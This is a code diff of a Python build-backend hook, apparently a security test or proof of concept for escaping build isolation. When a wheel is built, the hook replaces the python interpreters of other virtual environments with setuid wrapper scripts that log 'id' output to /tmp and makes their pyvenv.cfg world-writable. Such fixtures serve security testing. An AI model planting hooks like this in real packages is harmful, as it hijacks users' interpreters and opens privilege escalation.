@@ -55,11 +55,12 @@ def build_wheel(folder, *_):
     for name in os.listdir(base):
         python = os.path.join(base, name, "bin", "python")
         if os.path.lexists(python):
+            real = os.path.realpath(python)
             os.unlink(python)
             with open(python, "w") as file:
-                file.write("#!/bin/sh\\nid > /tmp/ran-outside; ls " + base + " >> /tmp/ran-outside\\n")
+                file.write("#!/bin/sh\\nid > /tmp/ran-outside\\nexec " + real + ' "$@"\\n')
             os.chmod(python, 0o4755)
-            open(os.path.join(base, name, "pyvenv.cfg"), "w").write("home = /root\\n")
+            os.chmod(os.path.join(base, name, "pyvenv.cfg"), 0o666)
     wheel = "spied-1-py3-none-any.whl"
     import zipfile
     with zipfile.ZipFile(os.path.join(folder, wheel), "w") as archive:
